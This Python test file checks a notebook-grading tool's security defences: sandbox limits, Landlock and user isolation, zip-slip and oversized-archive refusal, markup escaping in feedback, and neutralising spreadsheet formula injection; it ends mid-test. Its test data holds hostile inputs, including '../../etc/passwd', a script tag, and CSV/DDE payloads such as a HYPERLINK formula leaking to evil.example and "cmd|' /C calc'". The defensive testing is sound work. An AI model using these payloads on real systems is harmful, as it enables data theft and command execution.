"""Fast tests of the grader's parts: intake, definitions, sandbox, reports."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import nbformat
import pytest
import torch
import torch.nn.functional as F

from coursework.grading.definitions import read_definitions, uses_reference
from coursework.grading.records import ExerciseResult, Record, Status
from coursework.grading.report import code, feedback_html, feedback_markdown
from coursework.grading.sandbox import Limits, wrap
from coursework.grading.submissions import (
    SubmissionsError,
    extract_zip,
    find_submissions,
    read_notebook,
    safe_id,
)


def notebook(*sources: str) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(s) for s in sources]
    return nb


def test_student_ids_from_names_pattern_mapping_and_duplicates(tmp_path: Path) -> None:
    for name in ["doe_42_03_vae.ipynb", "roe_7_03_vae.ipynb", "x y.ipynb"]:
        (tmp_path / name).write_text("{}")
    (tmp_path / ".ipynb_checkpoints").mkdir()
    (tmp_path / ".ipynb_checkpoints" / "a.ipynb").write_text("{}")
    plain = [s.student for s in find_submissions(tmp_path)]
    assert plain == ["doe_42_03_vae", "roe_7_03_vae", "x_y"]
    by_pattern = [
        s.student for s in find_submissions(tmp_path, id_pattern=r"^(?P<id>[a-z]+)_")
    ]
    assert by_pattern == ["doe", "roe", "x_y"]
    mapped = find_submissions(
        tmp_path, mapping={"x y.ipynb": "s1", "roe_7_03_vae.ipynb": "s1"}
    )
    assert [s.student for s in mapped] == ["doe_42_03_vae", "s1", "s1-2"]
    with pytest.raises(SubmissionsError, match="named group"):
        find_submissions(tmp_path, id_pattern="([a-z]+)")


def test_safe_id_strips_path_tricks() -> None:
    assert safe_id("../../etc/passwd") == "etc_passwd"
    assert safe_id("") == "student"


def test_zip_extraction_skips_escapes(tmp_path: Path) -> None:
    archive = tmp_path / "a.zip"
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("ok/n.ipynb", "{}")
        zf.writestr("../../escape.ipynb", "{}")
    into = tmp_path / "x"
    into.mkdir()
    extract_zip(archive, into)
    assert (into / "ok" / "n.ipynb").exists()
    assert not list(tmp_path.rglob("escape.ipynb"))
    (tmp_path / "bad.zip").write_text("not a zip")
    with pytest.raises(SubmissionsError, match="zip"):
        extract_zip(tmp_path / "bad.zip", into)


@pytest.mark.parametrize(
    "text, why",
    [
        ("", "empty"),
        ("{", "JSON"),
        ('{"nbformat": 99, "cells": []}', "version 99"),
        ("[1, 2]", "not a Jupyter notebook"),
    ],
)
def test_unreadable_notebooks_say_why(tmp_path: Path, text: str, why: str) -> None:
    path = tmp_path / "n.ipynb"
    path.write_text(text)
    nb, message = read_notebook(path)
    assert nb is None and why in message


def test_definitions_keep_imports_defs_and_needed_constants() -> None:
    nb = notebook(
        "%matplotlib inline\nimport torch\nSCALE = 2.0\nmodel = train_for_an_hour()",
        "def f(x):\n    return SCALE * x\n\nf(1)\nprint('PASS')",
        "def broken(:\n",
    )
    defs = read_definitions(nb)
    kept = [type(s.node).__name__ for s in defs.statements]
    assert kept == ["Import", "Assign", "FunctionDef"]
    assert 2 in defs.syntax_errors


ALIAS = "import torch.nn.functional as F\nsoftplus = F.softplus"
PARTIAL = "import functools, torch.nn.functional as F\n" + (
    "softplus = functools.partial(F.softplus)"
)
WRAPPER = "import torch\ndef softplus(x):\n    return torch.nn.functional.softplus(x)"
OWN = "def softplus(x):\n    return torch.logaddexp(x, torch.zeros_like(x))"


@pytest.mark.parametrize(
    "source, flagged",
    [
        (ALIAS, True),
        ("from torch.nn.functional import softplus", True),
        (WRAPPER, True),
        (PARTIAL, True),
        ("import torch\n" + OWN, False),
        (ALIAS + "\nimport torch\n" + OWN, False),
    ],
)
def test_uses_reference(source: str, flagged: bool) -> None:
    defs = read_definitions(notebook(source), {"softplus"})
    found = uses_reference(defs, "softplus", lambda obj: obj is F.softplus)
    assert bool(found) == flagged


def test_sandbox_sets_limits() -> None:
    limits = Limits(cpu_seconds=7, file_mb=3, open_files=99, process_margin=None)
    code = (
        "import resource as r; print(r.getrlimit(r.RLIMIT_CPU)[0], "
        "r.getrlimit(r.RLIMIT_FSIZE)[0], r.getrlimit(r.RLIMIT_NOFILE)[0])"
    )
    out = subprocess.run(
        wrap([sys.executable, "-c", code], limits),
        capture_output=True,
        text=True,
        check=True,
    )
    assert out.stdout.split() == ["7", str(3 * 2**20), "99"]


def test_sandbox_file_size_limit_stops_big_writes(tmp_path: Path) -> None:
    limits = Limits(file_mb=1, process_margin=None)
    code = f"open({str(tmp_path / 'big')!r}, 'wb').write(b'x' * 2**21)"
    out = subprocess.run(
        wrap([sys.executable, "-c", code], limits), capture_output=True, text=True
    )
    assert out.returncode != 0 and "File too large" in out.stderr


def test_feedback_shows_hidden_cases_by_number_only() -> None:
    record = {
        "student": "s1",
        "sha256": "0",
        "exercises": [
            {
                "exercise": "demo.f",
                "status": "failed",
                "points": 1.0,
                "max_points": 2.0,
                "seconds": 0.1,
                "message": "values differ",
                "hint": "look at <b>",
                "cases": [
                    {
                        "name": "public",
                        "status": "passed",
                        "message": "",
                        "hidden": False,
                    },
                    {
                        "name": "secret edge case",
                        "status": "failed",
                        "message": "values differ",
                        "hidden": True,
                    },
                ],
            }
        ],
    }
    md = feedback_markdown(Record.from_json(record))
    assert "hidden case 1" in md and "secret edge case" not in md
    assert "Hint: look at <b>" in md
    page = feedback_html(md, "s1")
    assert "&lt;b&gt;" in page and "<li>" in page


FORGED = "x\n\n## ✓ `demo.softplus`: 2 / 2\n\n<script>alert(1)</script> **PASS** ``"


def test_student_text_cannot_fake_markup_in_feedback() -> None:
    """An exception message that tries a heading, HTML and a code fence stays text."""
    record = Record.from_json(
        {
            "student": "s1",
            "sha256": "0",
            "invalid": FORGED,
            "exercises": [
                {
                    "exercise": "demo.softplus",
                    "status": "error",
                    "points": 0.0,
                    "max_points": 2.0,
                    "seconds": 0.0,
                    "message": FORGED,
                    "cases": [{"name": FORGED, "status": "error", "message": FORGED}],
                }
            ],
        }
    )
    page = feedback_html(feedback_markdown(record), "s1")
    assert page.count("<h2>") == 1  # the exercise's own heading only
    assert "<script>" not in page and "<strong>PASS" not in page
    assert "&lt;script&gt;" in page
    assert code("a`b") == "``a`b``" and code("`x") == "`` `x ``"


def test_records_round_trip_through_json() -> None:
    record = Record.from_json(
        {
            "student": "s1",
            "sha256": "ab",
            "exercises": [
                {
                    "exercise": "e",
                    "status": "kernel-died",
                    "points": 0,
                    "max_points": 2,
                    "seconds": 1,
                    "message": "m",
                    "cases": [{"name": "c", "status": "passed", "message": ""}],
                }
            ],
            "execution": {
                "events": [{"cell": 1, "kind": "timeout", "message": "t"}],
                "startup_seconds": 2.5,
            },
            "phases": {"kernel start": 2.5, "cells": 4},
        }
    )
    assert record.exercises[0].status is Status.KERNEL_DIED
    assert record.phases == {"kernel start": 2.5, "cells": 4.0}
    assert record.execution is not None and record.execution.startup_seconds == 2.5
    assert Record.from_json(record.to_json()) == record
    assert [str(s) for s in Status][:3] == ["passed", "failed", "error"]
    with pytest.raises(ValueError):
        ExerciseResult.from_json({**record.exercises[0].to_json(), "status": "bogus"})


def test_remote_gradient_matches_in_process(tmp_path: Path) -> None:
    from coursework.grading.remote import ChildProcess, make_proxy

    defs = read_definitions(
        notebook(
            "import torch\ndef f(x, y):\n    return (x * y.exp()).sum(-1), x.argmax()"
        )
    )
    child = ChildProcess(tmp_path, Limits(process_margin=None, exercise_seconds=60))
    try:
        reply = child.request(
            {
                "op": "define",
                "sources": defs.sources,
                "statements": [(s.cell, s.first, s.last) for s in defs.statements],
                "names": ["f"],
            }
        )
        assert reply["found"] == {"f": "callable"}
        proxy = make_proxy(child, "f", [])
        gen = torch.Generator().manual_seed(0)
        x = torch.randn(3, 4, generator=gen, dtype=torch.float64, requires_grad=True)
        y = torch.randn(3, 4, generator=gen, dtype=torch.float64, requires_grad=True)
        out, idx = proxy(x, y)
        gx, gy = torch.autograd.grad(
            (out * torch.tensor([1.0, 2.0, 3.0], dtype=torch.float64)).sum(), (x, y)
        )
        ref = (x * y.exp()).sum(-1)
        rx, ry = torch.autograd.grad(
            (ref * torch.tensor([1.0, 2.0, 3.0], dtype=torch.float64)).sum(), (x, y)
        )
        assert torch.allclose(out, ref) and int(idx) == int(x.argmax())
        assert torch.allclose(gx, rx) and torch.allclose(gy, ry)
    finally:
        child.stop()


def test_mapping_file_names_students(tmp_path: Path) -> None:
    from coursework.grading.submissions import read_mapping

    (tmp_path / "map.csv").write_text("file,student\nsub/a.ipynb,s-001\n")
    assert read_mapping(tmp_path / "map.csv") == {"a.ipynb": "s-001"}
    (tmp_path / "bad.csv").write_text("name,id\na,b\n")
    with pytest.raises(SubmissionsError, match="'file' and 'student'"):
        read_mapping(tmp_path / "bad.csv")


def test_child_reports_unsupported_output_and_survives_exit(tmp_path: Path) -> None:
    from coursework.grading.remote import ChildGone, ChildProcess, make_proxy

    source = "import os\ndef f(x):\n    return object()\ndef g(x):\n    os._exit(3)"
    defs = read_definitions(notebook(source))
    child = ChildProcess(tmp_path, Limits(process_margin=None, exercise_seconds=60))
    try:
        define = {
            "op": "define",
            "sources": defs.sources,
            "statements": [(s.cell, s.first, s.last) for s in defs.statements],
            "names": ["f", "g"],
        }
        assert child.request(define)["found"] == {"f": "callable", "g": "callable"}
        errors: list[str] = []
        with pytest.raises(Exception, match="cannot compare"):
            make_proxy(child, "f", errors)(torch.zeros(2))
        with pytest.raises(ChildGone):
            make_proxy(child, "g", errors)(torch.zeros(2))
        assert child.failure == "kernel-died" and "exit code 3" in child.why
    finally:
        child.stop()


# ------------------------------------------------------------------ isolation

PROBE = """
import json, os, sys
from pathlib import Path
scratch, secret, package = map(Path, sys.argv[1:4])
seen = {}
for name, fn in {
    "write_scratch": lambda: (scratch / "ok").write_text("ok"),
    "read_secret": lambda: secret.read_text(),
    "write_package": lambda: open(package / "__init__.py", "a").close(),
    "signal_parent": lambda: os.kill(os.getppid(), 0),
}.items():
    try:
        fn()
        seen[name] = True
    except OSError as exc:
        seen[name] = type(exc).__name__
print(json.dumps({"uid": os.getuid(), **seen}))
"""


def run_confined(
    tmp_path: Path, limits: Limits, python: str = sys.executable
) -> dict[str, object]:
    """Run the probe under ``limits``; what it could do."""
    import json

    from coursework.grading.oscalls import package_dir

    scratch = tmp_path / "scratch"
    scratch.mkdir()
    secret = tmp_path / "private" / "secret.txt"
    secret.parent.mkdir()
    secret.write_text("secret")
    os.chmod(secret.parent, 0o700)
    if limits.uid is not None:
        from coursework.grading.oscalls import give_to

        give_to(scratch, limits.uid)
    command = [python, "-c", PROBE, str(scratch), str(secret), str(package_dir())]
    done = subprocess.run(
        wrap(command, limits, scratch),
        capture_output=True,
        text=True,
        cwd=scratch,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def test_landlock_confines_reads_writes_and_signals(tmp_path: Path) -> None:
    from coursework.grading.oscalls import landlock_abi

    abi = landlock_abi()
    if abi < 1:
        pytest.skip("Landlock is not available in this kernel")
    seen = run_confined(tmp_path, Limits(process_margin=None, isolation="landlock"))
    assert seen["write_scratch"] is True
    assert seen["read_secret"] == "PermissionError"
    assert seen["write_package"] == "PermissionError"
    if abi >= 6:
        assert seen["signal_parent"] == "PermissionError"


CONNECT = """
import socket, sys
try:
    socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5).close()
    print("connected")
except OSError as exc:
    print("refused", type(exc).__name__)
"""


def test_landlock_closes_tcp_unless_network(tmp_path: Path) -> None:
    """Issue 22 (1) where namespaces are refused: Landlock (ABI 4) alone stops
    student code from reaching a classmate's kernel over TCP."""
    import socket

    from coursework.grading.oscalls import landlock_abi

    if landlock_abi() < 4:
        pytest.skip("Landlock's network rules need ABI 4 (Linux 6.7)")
    seen = {}
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = str(listener.getsockname()[1])
        for network in (False, True):
            scratch = tmp_path / f"scratch-{network}"
            scratch.mkdir()
            limits = Limits(process_margin=None, isolation="landlock", network=network)
            done = subprocess.run(
                wrap([sys.executable, "-c", CONNECT, port], limits, scratch),
                capture_output=True,
                text=True,
                cwd=scratch,
                timeout=120,
            )
            assert done.returncode == 0, done.stderr
            seen[network] = done.stdout.strip()
    assert seen[False] == "refused PermissionError"
    assert seen[True] == "connected"


def test_own_user_confines_reads_writes_and_signals() -> None:
    from coursework.grading.oscalls import pick_uid

    if os.geteuid() != 0:
        pytest.skip("switching users needs root")
    python = shutil.which("python3", path="/usr/bin:/bin")
    if python is None:
        pytest.skip("no system python3 that another user can run")
    import tempfile

    base = Path(tempfile.mkdtemp(prefix="coursework-user-test-"))
    os.chmod(base, 0o755)  # the scratch folder must be reachable
    uid = pick_uid()
    limits = Limits(process_margin=None, isolation="user", uid=uid)
    try:
        seen = run_confined(base, limits, python)
    finally:
        shutil.rmtree(base, ignore_errors=True)
    assert seen["uid"] == uid
    assert seen["write_scratch"] is True
    assert seen["read_secret"] == "PermissionError"
    assert seen["signal_parent"] == "PermissionError"


def test_isolation_needs_a_scratch_folder() -> None:
    with pytest.raises(ValueError, match="scratch"):
        wrap(["true"], Limits(isolation="landlock"))


def test_probe_reports_what_it_found() -> None:
    from coursework.grading.probe import MODES, probe

    found = probe()
    assert found.mode in MODES
    assert found.describe().startswith("isolation: ")
    if found.mode == "process":
        assert "process only" in found.describe() and found.notes


def test_integrity_baseline_names_changed_added_and_removed_files(
    tmp_path: Path,
) -> None:
    from coursework.grading.integrity import Baseline, Tampered

    package, checks = tmp_path / "pkg", tmp_path / "checks"
    (package / "sub").mkdir(parents=True)
    checks.mkdir()
    (package / "a.py").write_text("a = 1\n")
    (package / "sub" / "b.py").write_text("b = 1\n")
    (checks / "hidden.py").write_text("h = 1\n")
    (package / "__pycache__").mkdir()
    base = Baseline.take(package, [checks])
    base.verify("now")
    (package / "__pycache__" / "a.pyc").write_bytes(b"cache")  # caches are ignored
    base.verify("after a cache")
    again = Baseline.from_json(base.to_json())
    assert again.digest == base.digest
    (package / "sub" / "b.py").write_text("b = 2\n")
    (package / "new.py").write_text("")
    (checks / "hidden.py").unlink()
    assert base.changes() == ["checks0/hidden.py", "package/new.py", "package/sub/b.py"]
    with pytest.raises(Tampered, match=r"after a kernel: changed .*hidden\.py"):
        again.verify("after a kernel")


def test_memory_is_measured_before_a_timeout_is_declared(tmp_path: Path) -> None:
    """A watch that never got to poll (a busy machine) still names memory."""
    from coursework.grading.sandbox import MemoryWatch

    hog = "x = b'x' * (300 * 2**20)\nimport time\ntime.sleep(60)"
    proc = subprocess.Popen([sys.executable, "-c", hog], start_new_session=True)
    try:
        watch = MemoryWatch(proc.pid, 100, interval=3600)
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not watch.over_limit():
            time.sleep(0.1)
        assert watch.tripped
        assert proc.wait(timeout=10) == -9
    finally:
        proc.kill()
        proc.wait()


def test_child_over_memory_at_its_deadline_is_a_memory_death(tmp_path: Path) -> None:
    from coursework.grading.remote import ChildGone, ChildProcess, make_proxy

    source = (
        "import time\ndef f(x):\n    hog = b'x' * (400 * 2**20)\n"
        "    time.sleep(60)\n    return x"
    )
    defs = read_definitions(notebook(source))
    limits = Limits(process_margin=None, exercise_seconds=5, memory_mb=200)
    child = ChildProcess(tmp_path, limits)
    child.watch.stop()  # as if the machine were too busy for the watch to poll
    try:
        define = {
            "op": "define",
            "sources": defs.sources,
            "statements": [(s.cell, s.first, s.last) for s in defs.statements],
            "names": ["f"],
        }
        assert child.request(define)["found"] == {"f": "callable"}
        with pytest.raises(ChildGone):
            make_proxy(child, "f", [])(torch.zeros(2))
        assert child.failure == "kernel-died"
        assert "memory" in child.why
    finally:
        child.stop()


LEAVES = {"records", "signing", "wire", "oscalls", "integrity"}


def test_grading_imports_run_one_way() -> None:
    """Module-level imports only, no cycle, and the leaves import no grading module."""
    import ast

    folder = Path(__file__).resolve().parents[2] / "coursework" / "grading"
    graph: dict[str, set[str]] = {}
    for path in folder.glob("*.py"):
        tree = ast.parse(path.read_text())
        deps = set()
        for node in ast.walk(tree):
            if isinstance(node, ast.ImportFrom) and (node.module or "").startswith(
                "coursework.grading"
            ):
                assert node.col_offset == 0, f"{path.name}: import inside a function"
                parts = node.module.split(".")  # type: ignore[union-attr]
                deps |= {parts[2]} if len(parts) > 2 else {a.name for a in node.names}
        graph[path.stem] = deps
    for leaf in LEAVES:
        assert graph[leaf] == set(), (leaf, graph[leaf])
    done: set[str] = set()

    def visit(name: str, path: tuple[str, ...]) -> None:
        assert name not in path, f"import cycle: {' -> '.join((*path, name))}"
        if name not in done:
            for dep in graph.get(name, ()):
                visit(dep, (*path, name))
            done.add(name)

    for name in graph:
        visit(name, ())


def _zip(path: Path, entries: dict[str, str], encrypted: bool = False) -> Path:
    import zipfile

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in entries.items():
            zf.writestr(name, text)
    if encrypted:  # zipfile cannot write one: set the flag in every header
        data = bytearray(path.read_bytes())
        for signature, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            at = data.find(signature)
            while at >= 0:
                data[at + flags] |= 0x1
                at = data.find(signature, at + 1)
        path.write_bytes(bytes(data))
    return path


def test_zip_is_checked_before_anything_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 22 (9): too large in all, encrypted or corrupt: refused, nothing left."""
    import coursework.grading.submissions as submissions

    monkeypatch.setattr(submissions, "MAX_ZIP_BYTES", 1000)
    big = _zip(tmp_path / "big.zip", {f"s{i}/n.ipynb": "x" * 600 for i in range(3)})
    locked = _zip(
        tmp_path / "locked.zip", {"a.ipynb": "{}", "b.ipynb": "{}"}, "b.ipynb"
    )
    corrupt = _zip(tmp_path / "corrupt.zip", {"a.ipynb": "{}", "b.ipynb": "y" * 500})
    data = bytearray(corrupt.read_bytes())
    at = data.find(b"b.ipynb") + len(b"b.ipynb")  # b's local header, then its data
    data[at : at + 8] = bytes(8)  # b's deflated bytes, now garbage
    corrupt.write_bytes(bytes(data))
    for archive, why in [
        (big, "unpacks to more than"),
        (locked, "encrypted"),
        (corrupt, "cannot be read"),
    ]:
        into = tmp_path / f"into-{archive.stem}"
        into.mkdir()
        with pytest.raises(SubmissionsError, match=why):
            extract_zip(archive, into)
        assert list(into.iterdir()) == [], archive.name


def test_crafted_notebooks_are_invalid_not_a_crash(tmp_path: Path) -> None:
    """Issue 22 (7): deep nesting, wrong types: a reason, never an exception."""
    cases = {
        "deep.ipynb": '{"a":' * 100_000 + "1" + "}" * 100_000,
        "deep_list.ipynb": "[" * 50_000 + "]" * 50_000,
        "source.ipynb": '{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, '
        '"cells": [{"cell_type": "code", "source": [1, 2], "metadata": {}, '
        '"outputs": [], "execution_count": null}]}',
    }
    for name, text in cases.items():
        path = tmp_path / name
        path.write_text(text)
        nb, why = read_notebook(path)
        assert nb is None and why, name


FORMULAS = [  # the cells of issue 22 (6), and the characters some programs also run
    '=HYPERLINK("http://evil.example/?leak","click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
    "\r\n=1+1",
]


def test_csv_cells_from_student_text_never_start_a_formula(tmp_path: Path) -> None:
    """Issue 22 (6): every student message reaches results.csv inert."""
    import csv

    from coursework.grading.report import neutral, write_gradebook

    exercises = [
        ExerciseResult(f"e{i}", Status.ERROR, 0.0, 1.0, 0.0, text)
        for i, text in enumerate(FORMULAS)
    ]
    write_gradebook(
        tmp_path, [Record("s1", "ab", exercises)], [e.exercise for e in exercises]
    )
    with open(tmp_path / "results.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert [r["message"] for r in rows] == ["'" + t for t in FORMULAS]
    for name in ("grades.csv", "results.csv", "summary.csv"):
        with open(tmp_path / name, newline="", encoding="utf-8") as f:
            for row in csv.reader(f):
                for cell in row:
                    assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t"))
    assert neutral("-0.5 points") == "'-0.5 points"
    assert neutral("name 'x' is not defined") == "name 'x' is not defined"


def test_network_is_announced_when_open() -> None:
    """--network: the isolation line, on screen and in every feedback, says so."""
    from coursework.grading.probe import Isolation

    closed = Isolation("landlock", 7, True, namespaces=True)
    opened = Isolation("landlock", 7, True, namespaces=True, network=True)
    assert "no network" in closed.describe() and "--network" not in closed.describe()
    assert "network open (--network)" in opened.describe()
    assert "no network" not in opened.describe()
    process = Isolation("process", 0, network=True)
    assert process.describe().endswith("network open (--network)")
    command = wrap(
        ["true"], Limits(isolation="landlock", namespaces=True, network=True), Path("/")
    )
    assert "--network" in command
    closed_command = wrap(
        ["true"], Limits(isolation="landlock", namespaces=True), Path("/")
    )
    assert "--network" not in closed_command


def test_display_updates_count_in_the_output_cap() -> None:
    """Issue 22 (5), without a kernel: twenty displays share an id, then one
    big update would rewrite them all; it is refused and marked instead."""
    from coursework.grading.execute import TRUNCATED, CappedClient

    def message(kind: str, text: str) -> dict[str, object]:
        content = {
            "data": {"text/plain": text},
            "metadata": {},
            "transient": {"display_id": "same"},
        }
        header = {"msg_type": kind}
        return {
            "header": header,
            "parent_header": {"msg_id": "run"},
            "msg_type": kind,
            "content": content,
        }

    nb = notebook("displays")
    client = CappedClient(nb)
    client.reset_execution_trackers()  # what nbclient does before a run
    client.clear_before_next_output = False  # and before each cell
    client.output_bytes = 4096
    outs = nb.cells[0].outputs
    for _ in range(20):
        client.output(outs, message("display_data", "'x'"), "same", 0)
    assert len(outs) == 20
    client._update_display_id("same", message("update_display_data", "y" * 1000))
    assert client.truncated
    assert [o["data"]["text/plain"] for o in outs[:20]] == ["'x'"] * 20
    assert outs[-1]["text"] == TRUNCATED
    small = CappedClient(notebook("displays"))  # within the cap, updates apply
    small.reset_execution_trackers()
    small.clear_before_next_output = False
    outs = small.nb.cells[0].outputs
    small.output(outs, message("display_data", "'x'"), "same", 0)
    small._update_display_id("same", message("update_display_data", "'y'"))
    assert outs[0]["data"]["text/plain"] == "'y'" and not small.truncated


ORPHAN = """
import os, sys, time
from coursework.grading.oscalls import become_subreaper, kill_descendants
assert become_subreaper()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "300.77"])
    os._exit(0)
os.wait()
time.sleep(0.5)
print(kill_descendants(), flush=True)
"""


def test_orphans_stay_below_the_worker_and_are_killed() -> None:
    """Issue 22 (2) without root, cgroup or namespaces: the worker reaps the
    job's orphans, so a double-forked ``setsid`` process dies with the job."""

    def alive() -> list[str]:
        found = []
        for entry in Path("/proc").iterdir():
            try:
                argv = (entry / "cmdline").read_bytes().split(b"\0")
            except OSError:
                continue
            if argv[:2] == [b"sleep", b"300.77"]:
                found.append(entry.name)
        return found

    done = subprocess.run(
        [sys.executable, "-c", ORPHAN], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr
    assert int(done.stdout) == 1
    assert alive() == []


# ------------------------------------------------------------------ issue 28


def test_grader_side_python_imports_nothing_from_the_job_folder(
    tmp_path: Path,
) -> None:
    """Issue 28 (1): with a ``coursework/``, ``sitecustomize.py``,
    ``usercustomize.py`` and ``.pth`` files planted in the job's folder and its
    home, the old start (``python -c`` there) runs the planted package; the
    sandbox's start (``-P -s``, the folder entered last) imports the package
    that was hashed and nothing of the folder."""
    import json

    sys.path.insert(0, str(Path(__file__).resolve().parent))
    import test_grading as tg

    from coursework.grading.oscalls import package_dir
    from coursework.grading.sandbox import environment, python

    job = tmp_path / "job"
    job.mkdir()
    tg.plant(job)
    env = environment(job, Limits())
    old = subprocess.run(
        [sys.executable, "-c", "import coursework"], cwd=job, env=env, timeout=120
    )
    assert old.returncode == 0
    marks = job / ".imported"
    assert [p.name.split("-")[0] for p in marks.iterdir()] == ["coursework"]
    shutil.rmtree(marks)
    code = (
        "import json, os, coursework\n"
        "from pathlib import Path\n"
        "from coursework.grading.integrity import foreign_imports\n"
        "here = Path(coursework.__file__).parent\n"
        "found = foreign_imports(here, [Path.cwd()])\n"
        "print(json.dumps([str(here), os.getcwd(), found]))"
    )
    done = subprocess.run(
        wrap(python("-c", code), Limits(), job),
        cwd="/",
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    here, cwd, foreign = json.loads(done.stdout.strip().splitlines()[-1])
    assert Path(here) == package_dir() and Path(cwd) == job and foreign == []
    assert not marks.exists()


def test_foreign_imports_names_a_module_from_the_job_folder(tmp_path: Path) -> None:
    from coursework.grading.integrity import foreign_imports
    from coursework.grading.oscalls import package_dir

    (tmp_path / "planted_module_28.py").write_text("x = 1\n")
    sys.path.insert(0, str(tmp_path))
    try:
        import planted_module_28  # noqa: F401

        found = foreign_imports(package_dir(), [tmp_path])
    finally:
        sys.path.remove(str(tmp_path))
        sys.modules.pop("planted_module_28", None)
    assert any("planted_module_28 from the job's folder" in f for f in found)
    assert foreign_imports(package_dir(), [tmp_path]) == []


def test_student_ids_are_unique_whatever_the_names(tmp_path: Path) -> None:
    """Issue 28 (4): ``jdoe-2.ipynb`` beside a folder ``jdoe_/`` of two notebooks,
    a name in two Unicode forms and in two cases: every student an id of
    their own, and each file its own."""
    (tmp_path / "jdoe-2.ipynb").write_text("{}")
    (tmp_path / "jdoe_").mkdir()
    for name in ("a.ipynb", "b.ipynb"):
        (tmp_path / "jdoe_" / name).write_text("{}")
    (tmp_path / "Jos\u00e9.ipynb").write_text("{}")  # NFC
    (tmp_path / "Jose\u0301.ipynb").write_text("{}")  # NFD, the same name
    (tmp_path / "JDOE.ipynb").write_text("{}")
    found = find_submissions(tmp_path)
    ids = [s.student for s in found]
    assert len(set(i.casefold() for i in ids)) == len(ids) == 6, ids
    by_file = {str(s.path.relative_to(tmp_path)): s.student for s in found}
    assert by_file["jdoe-2.ipynb"] == "jdoe-2"  # its own id, never another's
    assert {by_file["Jos\u00e9.ipynb"], by_file["Jose\u0301.ipynb"]} == {
        "Jose",
        "Jose-2",
    }
    assert safe_id("Ｊｏｓé") == "Jose"  # NFKC: full-width letters


def test_a_reply_is_checked_before_any_arithmetic() -> None:
    """Issue 28 (3): a stride-0 view over the size limit is refused by its
    element count; a small one is materialised; a wrong shape or dtype stays
    out of the autograd graph, so only the comparison sees it."""
    from coursework.grading.remote import BadReply, checked_reply

    expected = torch.zeros(4, 3)
    balloon = torch.zeros(1).expand(12_500, 10_000)
    assert balloon.untyped_storage().nbytes() == 4
    with pytest.raises(BadReply, match="125,000,000 elements"):
        checked_reply(balloon, expected)
    with pytest.raises(BadReply):
        checked_reply((expected, [balloon]), (expected, expected))
    small = torch.ones(1).expand(4, 3)
    out, fits = checked_reply(small, expected)
    assert out.untyped_storage().nbytes() == 12 * 4 and torch.equal(out, small)
    assert fits == [True]
    _, fits = checked_reply((torch.zeros(3, 4), expected.double()), (expected,) * 2)
    assert fits == [False, False]


def test_network_refuses_parallel_jobs_and_dask(tmp_path: Path, capsys) -> None:
    """Issue 28 (6, 7): with --network, jobs share the machine's network, so
    the grader grades one at a time or says why not."""
    from coursework.grading.cli import main

    base = [str(tmp_path), "--out", str(tmp_path / "out"), "--network"]
    for extra in (["--jobs", "2"], ["--dask-workers", "2"]):
        assert main([*base, *extra]) == 1
        err = capsys.readouterr().err
        assert "--network" in err and "--jobs 1" in err and "classmate" in err
    assert not (tmp_path / "out").exists()


def test_gradebook_names_each_students_file(tmp_path: Path) -> None:
    from coursework.grading.report import write_gradebook

    rows = [ExerciseResult("e", Status.PASSED, 1.0, 1.0, 0.0, "")]
    write_gradebook(
        tmp_path,
        [Record("s1", "ab", rows), Record("s2", "cd", rows)],
        ["e"],
        {"s1": "s1/nb.ipynb", "s2": "=cmd.ipynb"},
    )
    lines = (tmp_path / "grades.csv").read_text().splitlines()
    assert lines == [
        "student,file,e,total,max",
        "s1,s1/nb.ipynb,1,1,1",
        "s2,'=cmd.ipynb,1,1,1",
    ]


def test_a_root_worker_keeps_only_the_capabilities_it_uses() -> None:
    """Issue 28 (8): as root, the worker drops every other capability, for
    itself and for whatever it runs (the bounding set)."""
    if os.geteuid() != 0:
        pytest.skip("not root: there is no capability to drop")
    code = (
        "from coursework.grading.oscalls import WORKER_CAPABILITIES as W, "
        "keep_capabilities\n"
        "keep_capabilities(W)\n"
        "import subprocess\n"
        "print(open('/proc/self/status').read())\n"
        "print(subprocess.run(['cat', '/proc/self/status'], capture_output=True, "
        "text=True).stdout)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr
    from coursework.grading.oscalls import WORKER_CAPABILITIES

    want = sum(1 << c for c in WORKER_CAPABILITIES)
    own, child = done.stdout.split("Name:")[1:3]
    for status in (own, child):
        fields = dict(
            line.split(":\t") for line in status.splitlines() if ":\t" in line
        )
        for name in ("CapPrm", "CapEff", "CapBnd"):
            assert int(fields[name], 16) & ~want == 0, (name, fields[name])
    assert (
        int(
            dict(line.split(":\t") for line in own.splitlines() if ":\t" in line)[
                "CapEff"
            ],
            16,
        )
        == want
    )


QUOTA = (
    "import json\n"
    "from coursework.grading.probe import _quota_works\n"
    "print(json.dumps(_quota_works()))\n"
)


def test_the_disk_quota_is_probed_by_use_as_root_and_as_an_ordinary_user(
    request: pytest.FixtureRequest,
) -> None:
    """Issue 28 (5): a tmpfs of 1 MB refuses a third file of 400 kB, mounted as
    root or, for user 65534, as root of its own user and mount namespaces (as
    a job's worker then is); without ``unshare`` the grader says why."""
    import json

    from coursework.grading.oscalls import package_dir
    from coursework.grading.probe import _quota_works

    if os.geteuid() != 0:  # the tests run as an ordinary user
        how, why = _quota_works()
